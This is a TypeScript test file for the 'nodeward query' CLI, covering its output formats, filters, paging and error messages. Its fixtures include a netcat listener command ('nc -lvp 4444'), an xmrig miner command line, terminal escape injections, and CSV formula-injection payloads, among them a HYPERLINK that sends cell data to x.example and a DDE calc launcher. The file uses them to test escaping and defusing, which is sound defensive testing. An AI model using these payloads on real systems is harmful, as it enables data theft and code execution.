// `nodeward query` as an operator runs it: the real binary against a real collector.
import test from 'ava';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { runNodeward } from '../helpers/process.js';
import { ADMIN_TOKEN, READER_TOKEN, startTestCollector, type TestCollector } from '../helpers/collector.js';
import { api, connect, fp, proc, result } from '../helpers/agent-session.js';
import { unexpectedProcess } from '../helpers/process-finding.js';

const nodeward = runNodeward;

let tc: TestCollector;
let conn: string[];
const ESC = '\u001b';

test.before(async () => {
  tc = await startTestCollector({ nodes: ['node-a', 'node-b'] });
  await writeFile(join(tc.dir, 'reader.token'), `${READER_TOKEN}\n`, { mode: 0o600 });
  conn = ['--url', tc.apiUrl, '--token-file', join(tc.dir, 'reader.token'), '--ca-file', tc.pki.caCert];
  const a = await connect(tc, 'node-a', { agentVersion: '0.9.1', stats: { spoolDropped: 1, execCoverage: 'event' } });
  const b = await connect(tc, 'node-b', { agentVersion: '0.9.1' });
  const now = Date.now();
  await a.scan(now, ['cis-4.2.1', 'cis-4.2.2'], [
    result('cis-4.2.1', '--anonymous-auth', 'fail', { severity: 'critical', title: 'Kubelet anonymous auth' }),
    result('cis-4.2.2', '--authorization-mode', 'pass'),
  ]);
  // node-a's agent lost 6 things by its latest heartbeat (handled before the batch is acked).
  a.heartbeat({ spoolDropped: 2, execEventsLost: 3, baselineReportDropped: 1, processEventsCapped: 50, execCoverage: 'event' });
  await a.batch([proc('/usr/bin/nc'), proc(`/tmp/${ESC}[31mred${ESC}[0m`, { severity: 'medium' })]);
  await b.scan(now, ['cis-4.2.1'], [result('cis-4.2.1', '--anonymous-auth', 'fail', { severity: 'high' })]);
  a.close();
  b.close();
  const res = await api(tc, `/api/v1/findings/${fp('node-a', 'proc-unexpected', '/usr/bin/nc')}/suppress`, { method: 'POST', token: ADMIN_TOKEN, body: { reason: 'ok' } });
  if (res.status !== 200) throw new Error(res.text);
});
test.after.always(async () => {
  await tc?.close();
});

test('query findings prints a table, filters, and --output json gives the API page', async (t) => {
  const all = await nodeward(['query', 'findings', ...conn]);
  t.is(all.code, 0, all.stderr);
  const lines = all.stdout.trimEnd().split('\n');
  t.regex(lines[0]!, /^SEVERITY\s+STATE\s+NODE\s+CHECK\s+SUBJECT\s+COUNT\s+LAST SEEN\s+ID$/);
  t.is(lines.length, 5, all.stdout);
  t.regex(all.stdout, /critical\s+open\s+node-a\s+cis-4\.2\.1\s+--anonymous-auth\s+1\s+\d{4}-\d\d-\d\dT[\d:]+Z\s+[0-9a-f]{32}/);
  t.false(all.stdout.includes(ESC), 'control characters from a node never reach the terminal');
  t.true(all.stdout.includes('/tmp/\\x1b[31mred\\x1b[0m'));

  const filtered = await nodeward(['query', 'findings', ...conn, '--node', 'node-a', '--min-severity', 'high', '--state', 'open']);
  t.is(filtered.code, 0, filtered.stderr);
  t.deepEqual(filtered.stdout.trimEnd().split('\n').slice(1).map((l) => l.split(/\s+/).slice(0, 4).join(' ')), ['critical open node-a cis-4.2.1']);
  const suppressed = await nodeward(['query', 'findings', ...conn, '--state', 'suppressed', '--output', 'json']);
  t.is(suppressed.code, 0, suppressed.stderr);
  const body = JSON.parse(suppressed.stdout);
  t.deepEqual(body.items.map((f: any) => [f.node, f.subject, f.state, f.suppressedReason]), [['node-a', '/usr/bin/nc', 'suppressed', 'ok']]);
  t.is(body.nextCursor, null);
  const none = await nodeward(['query', 'findings', ...conn, '--q', 'no-such-thing']);
  t.is(none.stdout, 'No findings match.\n');
  const recent = await nodeward(['query', 'findings', ...conn, '--since', '1h', '--check', 'cis-4.2.1', '--output', 'json']);
  t.is(JSON.parse(recent.stdout).items.length, 2);
});

test('query findings lists the most severe first; --sort and --order name another order', async (t) => {
  const column = (out: string, i: number): string[] => out.trimEnd().split('\n').slice(1).map((l) => l.split(/\s+/)[i]!);
  const triage = await nodeward(['query', 'findings', ...conn]);
  t.is(triage.code, 0, triage.stderr);
  t.deepEqual(column(triage.stdout, 0), ['critical', 'high', 'high', 'medium']);
  const open = await nodeward(['query', 'findings', ...conn, '--state', 'open', '--min-severity', 'high']);
  t.deepEqual(column(open.stdout, 0), ['critical', 'high'], 'the first open finding of at least high is the critical one');
  const byNode = await nodeward(['query', 'findings', ...conn, '--sort', 'node', '--order', 'desc']);
  t.is(byNode.code, 0, byNode.stderr);
  t.deepEqual(column(byNode.stdout, 2), ['node-b', 'node-a', 'node-a', 'node-a']);
  t.deepEqual(column(byNode.stdout, 0), ['high', 'medium', 'high', 'critical'], 'desc reverses the whole order');
  const json = JSON.parse((await nodeward(['query', 'findings', ...conn, '--sort', 'check', '-o', 'json'])).stdout);
  t.deepEqual(json.items.map((f: any) => f.checkId), ['cis-4.2.1', 'cis-4.2.1', 'proc-unexpected', 'proc-unexpected']);
  const bad = await nodeward(['query', 'findings', ...conn, '--sort', 'age']);
  t.is(bad.code, 2);
  t.regex(bad.stderr, /--sort.*age.*severity, lastSeen, firstSeen, node, check/);
});

test('query findings --limit pages through the cursor and says when there is more', async (t) => {
  const two = await nodeward(['query', 'findings', ...conn, '--limit', '2', '--output', 'json']);
  t.is(two.code, 0, two.stderr);
  const page = JSON.parse(two.stdout);
  t.is(page.items.length, 2);
  t.is(typeof page.nextCursor, 'string');
  const table = await nodeward(['query', 'findings', ...conn, '--limit', '3']);
  t.is(table.stdout.trimEnd().split('\n').length, 4);
  t.regex(table.stderr, /the first 3 findings; --limit N or --all for more/);
  const all = await nodeward(['query', 'findings', ...conn, '--all', '--output', 'json']);
  t.is(JSON.parse(all.stdout).items.length, 4);
});

test('query nodes and query summary, with settings from the environment', async (t) => {
  const env = { NODEWARD_URL: tc.apiUrl, NODEWARD_TOKEN_FILE: join(tc.dir, 'reader.token'), NODEWARD_CA_FILE: tc.pki.caCert };
  const nodes = await nodeward(['query', 'nodes'], env);
  t.is(nodes.code, 0, nodes.stderr);
  const rows = nodes.stdout.trimEnd().split('\n');
  t.regex(rows[0]!, /^NODE\s+STATUS\s+SCORE\s+BENCHMARK\s+OPEN\s+FAILING\s+DROPS\s+EXEC\s+HOST LEARNING\s+AGENT\s+KUBELET\s+CERTS EXPIRE\s+OS\s+LAST SEEN\s+WHY NO AGENT$/);
  // node-a's agent predates exec_source: its exec_coverage "event" was netlink. node-b never said.
  // Neither reported a host baseline: no learning window to show.
  t.deepEqual(rows.slice(1).map((l) => l.split(/\s{2,}/).slice(0, 10)), [
    ['node-a', 'disconnected', '50%', 'cis-1.12', '2', '1', '6', 'netlink', '-', '0.9.1'],
    ['node-b', 'disconnected', '0%', 'cis-1.12', '1', '1', '0', '-', '-', '0.9.1'],
  ]);
  t.is((await nodeward(['query', 'nodes', '--stale'], env)).stdout, 'No node is stale.\n');
  const json = JSON.parse((await nodeward(['query', 'nodes', '--output', 'json'], env)).stdout);
  t.deepEqual(json.items.map((n: any) => n.name), ['node-a', 'node-b']);
  t.deepEqual(json.items.map((n: any) => n.agentDrops.total), [6, 0]);
  t.like(json.items[0], { agentDrops: { spool: 2, execEventsLost: 3, baselineReportDropped: 1 }, agentDegraded: { processEventsCapped: 50 } });

  const summary = await nodeward(['query', 'summary'], { ...env, NODEWARD_TOKEN_FILE: '', NODEWARD_TOKEN: ADMIN_TOKEN });
  t.is(summary.code, 0, summary.stderr);
  t.regex(summary.stdout, /^Nodes: +2 \(0 connected, 0 stale\)$/m);
  t.regex(summary.stdout, /^Compliance: +33\.3% \(1 of 3 scored checks pass\)$/m);
  t.regex(summary.stdout, /^Findings: +3 open: critical 1, high 1, medium 1, low 0, info 0$/m);
  t.regex(summary.stdout, /^cis-4\.2\.1\s+critical\s+2\s+2\s+Kubelet anonymous auth$/m);
  const sj = JSON.parse((await nodeward(['query', 'summary', '--state', 'suppressed', '--output', 'json'], env)).stdout);
  t.is(sj.findings.total, 1);
});

test('query processes prints one row per node, workload and executable, with filters, and its control characters escaped', async (t) => {
  const c = await startTestCollector({ nodes: ['node-a'] });
  t.teardown(() => c.close());
  await writeFile(join(c.dir, 'reader.token'), `${READER_TOKEN}\n`, { mode: 0o600 });
  const cc = ['--url', c.apiUrl, '--token-file', join(c.dir, 'reader.token'), '--ca-file', c.pki.caCert];
  const a = await connect(c, 'node-a');
  const web = 'shop/Deployment/web/nginx';
  const at = Date.now() - 60_000;
  await a.batch([
    unexpectedProcess(web, '/tmp/xmrig', at, 3, { cmdline: `/tmp/xmrig -o pool ${ESC}[2J`, user: 'root' }),
    unexpectedProcess('host', '/usr/bin/nc', at, 1, { cmdline: 'nc -lvp 4444', pid: 777 }),
  ]);
  a.close();
  const all = await nodeward(['query', 'processes', ...cc]);
  t.is(all.code, 0, all.stderr);
  const lines = all.stdout.trimEnd().split('\n');
  t.regex(lines[0]!, /^NODE\s+WHERE\s+EXECUTABLE\s+USER\s+PID\s+SEEN\s+COUNT\s+LAST SEEN\s+COMMAND LINE$/);
  t.is(lines.length, 3);
  t.regex(lines[1]!, /^node-a\s+shop\/Deployment\/web\/nginx\s+\/tmp\/xmrig\s+root\s+4242\s+event\s+3\s+\S+Z\s+\/tmp\/xmrig -o pool \\x1b\[2J$/);
  t.false(all.stdout.includes(ESC), 'control characters from a node never reach the terminal');
  const host = await nodeward(['query', 'processes', ...cc, '--workload', 'Deployment/web', '--namespace', 'shop', '--since', '1h', '--output', 'json']);
  t.is(host.code, 0, host.stderr);
  t.deepEqual(JSON.parse(host.stdout).items.map((r: any) => [r.baseline, r.executable, r.count]), [[web, '/tmp/xmrig', 3]]);
  t.is((await nodeward(['query', 'processes', ...cc, '--state', 'resolved'])).stdout, 'No resolved process finding matches.\n');
  const bad = await nodeward(['query', 'processes', ...cc, '--namespace', 'Not/A/Namespace']);
  t.is(bad.code, 2);
  t.regex(bad.stderr, /parameter namespace/);
});

test('usage errors exit 2 with a clear message; failures to query exit 1', async (t) => {
  const usage: Array<[string[], RegExp]> = [
    [['query', 'findings', ...conn, '--severity', 'urgent'], /--severity.*Allowed choices are info, low, medium, high, critical/],
    [['query', 'findings', ...conn, '--since', 'last tuesday'], /--since.*duration such as 30m/],
    [['query', 'findings', ...conn, '--limit', '-3'], /--limit/],
    [['query', 'findings', ...conn, '--node', 'x'.repeat(300)], /parameter node must NOT have more than 253 characters/],
    [['query', 'findings', '--url', tc.apiUrl, '--ca-file', tc.pki.caCert], /no API token: pass --token-file/],
    [['query', 'findings', '--url', 'not a url', '--token-file', join(tc.dir, 'reader.token')], /--url "not a url" is not a URL/],
    [['query', 'findings', ...conn.slice(0, 2), '--token-file', join(tc.dir, 'missing.token')], /cannot read the token file .*missing\.token: ENOENT/],
    [['query', 'nodez', ...conn], /unknown command 'nodez'/],
    [['query'], /^nodeward query: needs a command: findings, nodes, summary, processes, baselines, clusters \(see nodeward query --help\)$/],
    [['query', 'findings', ...conn, '--sevrity', 'high'], /^nodeward query findings: unknown option '--sevrity'; did you mean --severity\? \(see nodeward query findings --help\)$/],
    [['query', 'findings', ...conn, '-o', 'xml'], /^nodeward query findings: option '-o, --output <format>' argument 'xml' is invalid\. Allowed choices are table, json, csv\. \(see nodeward query findings --help\)$/],
    [['query', 'summary', ...conn, '-o', 'csv'], /Allowed choices are table, json\./],
  ];
  for (const [args, message] of usage) {
    const r = await nodeward(args);
    t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
    t.regex(r.stderr.trimEnd(), message, args.join(' '));
    t.is(r.stderr.trimEnd().split('\n').length, 1, `a usage error is one line: ${args.join(' ')}`);
    t.is(r.stdout, '');
  }
  await writeFile(join(tc.dir, 'wrong.token'), 'wrong-token-0123456789abcdef');
  const wrong = await nodeward(['query', 'nodes', '--url', tc.apiUrl, '--token-file', join(tc.dir, 'wrong.token'), '--ca-file', tc.pki.caCert]);
  t.is(wrong.code, 1);
  t.regex(wrong.stderr, /the collector refused the token \(401\)/);
  const untrusted = await nodeward(['query', 'nodes', '--url', tc.apiUrl, '--token-file', join(tc.dir, 'reader.token')]);
  t.is(untrusted.code, 1);
  t.regex(untrusted.stderr, /cannot verify the collector's certificate .* pass the CA with --ca-file/);
  const down = await nodeward(['query', 'nodes', '--url', 'https://127.0.0.1:1', '--token-file', join(tc.dir, 'reader.token')]);
  t.is(down.code, 1);
  t.regex(down.stderr, /connection refused \(is the collector running\? see --url\)/);
});

/** An RFC 4180 reader, written apart from the writer: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 2; continue; }
      if (c === '"') { quoted = false; i += 1; continue; }
      field += c; i += 1; continue;
    }
    if (c === '"' && field === '') { quoted = true; i += 1; continue; }
    if (c === ',') { row.push(field); field = ''; i += 1; continue; }
    if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 2; continue; }
    if (c === '"' || c === '\r' || c === '\n') throw new Error(`not RFC 4180 at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
    field += c; i += 1;
  }
  if (field !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

test('-o csv: RFC 4180 with a header row; cells a spreadsheet would run as formulas are defused', async (t) => {
  const c = await startTestCollector({ nodes: ['node-c'] });
  t.teardown(() => c.close());
  await writeFile(join(c.dir, 'reader.token'), `${READER_TOKEN}\n`, { mode: 0o600 });
  const cc = ['--url', c.apiUrl, '--token-file', join(c.dir, 'reader.token'), '--ca-file', c.pki.caCert];
  const subjects = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', 'plain, with "quotes", and a comma', `esc${ESC}[2Jape`];
  const a = await connect(c, 'node-c');
  await a.scan(Date.now(), ['cis-4.2.1'], subjects.map((s) => result('cis-4.2.1', s, 'fail', { severity: 'high' })));
  a.close();
  const csv = await nodeward(['query', 'findings', ...cc, '-o', 'csv']);
  t.is(csv.code, 0, csv.stderr);
  const rows = parseCsv(csv.stdout);
  t.deepEqual(rows[0], ['Severity', 'State', 'Node', 'Check', 'Subject', 'Count', 'Last seen', 'Id']);
  t.is(rows.length, subjects.length + 1);
  const bySubject = new Map(rows.slice(1).map((r) => [r[4], r]));
  for (const s of subjects.slice(0, 4)) t.true(bySubject.has(`'${s}`), `formula cell defused: ${s}`);
  t.true(bySubject.has('plain, with "quotes", and a comma'), 'commas and quotes survive the round trip');
  t.true(bySubject.has('esc\\x1b[2Jape'), 'control characters are escaped');
  t.false(csv.stdout.includes(ESC));
  const row = bySubject.get('plain, with "quotes", and a comma')!;
  t.deepEqual(row.slice(0, 4), ['high', 'open', 'node-c', 'cis-4.2.1']);
  t.is(row[5], '1');
  t.regex(row[7]!, /^[0-9a-f]{32}$/);
  // An empty answer is still a CSV file: its header row.
  t.is((await nodeward(['query', 'findings', ...cc, '-o', 'csv', '--q', 'no-such-thing'])).stdout, 'Severity,State,Node,Check,Subject,Count,Last seen,Id\r\n');
  const nodes = parseCsv((await nodeward(['query', 'nodes', ...cc, '--output', 'csv', '--wide'])).stdout);
  t.is(nodes[0]![0], 'Node');
  t.is(nodes[1]![0], 'node-c');
  t.is(nodes[1]![nodes[0]!.indexOf('Last refused')], '', 'a value the node did not send is empty, not a dash');
});

test('URLs: no scheme, plain http:// to another machine, and the wrong protocol for the port each get a message that says what to write', async (t) => {
  const token = ['--token-file', join(tc.dir, 'reader.token'), '--ca-file', tc.pki.caCert];
  const port = new URL(tc.apiUrl).port;
  const usage: Array<[string[], Record<string, string>, RegExp]> = [
    [['query', 'nodes', '--url', 'collector.example:8443', ...token], {}, /^nodeward: --url "collector\.example:8443" has no scheme: write https:\/\/collector\.example:8443 \(the collector's API is HTTPS\)$/],
    [['query', 'nodes', '--url', 'localhost', ...token], {}, /has no scheme: write https:\/\/localhost /],
    [['query', 'nodes', ...token], { NODEWARD_URL: `localhost:${port}` }, new RegExp(`^nodeward: NODEWARD_URL "localhost:${port}" has no scheme: write https://localhost:${port} `)],
    [['query', 'nodes', '--url', 'http://collector.example:8443', ...token], {}, /^nodeward: --url "http:\/\/collector\.example:8443": collector\.example must be reached over https:\/\/: over plain http:\/\/ the API token would cross the network unencrypted .*; write https:\/\/collector\.example:8443$/],
    [['query', 'nodes', '--url', 'ftp://collector.example', ...token], {}, /the collector's API is reached over https:\/\/, not ftp:\/\//],
    [['query', 'nodes', '--url', 'not a url', ...token], {}, /--url "not a url" is not a URL: write it as https:\/\/HOST:PORT/],
  ];
  for (const [args, env, message] of usage) {
    const r = await nodeward(args, env);
    t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
    t.regex(r.stderr.trimEnd(), message);
  }
  // http:// to this machine is allowed (a test collector); to the HTTPS port it says what to write.
  const plain = await nodeward(['query', 'nodes', '--url', `http://127.0.0.1:${port}`, ...token]);
  t.is(plain.code, 1);
  t.is(plain.stderr, `nodeward: error: http://127.0.0.1:${port} closed the connection without an HTTP answer: the collector's API serves HTTPS (unless api.insecure is set); use --url https://127.0.0.1:${port}\n`);
  const insecure = await startTestCollector({ nodes: ['node-a'], overrides: { 'api.insecure': true } });
  t.teardown(() => insecure.close());
  const insecurePort = new URL(insecure.apiUrl).port;
  const tls = await nodeward(['query', 'nodes', '--url', `https://127.0.0.1:${insecurePort}`, ...token]);
  t.is(tls.code, 1);
  t.regex(tls.stderr, new RegExp(`^nodeward: error: https://127\\.0\\.0\\.1:${insecurePort} does not answer in TLS \\(it speaks plain HTTP\\): a test collector with api\\.insecure is reached at http://127\\.0\\.0\\.1:${insecurePort}`));
});
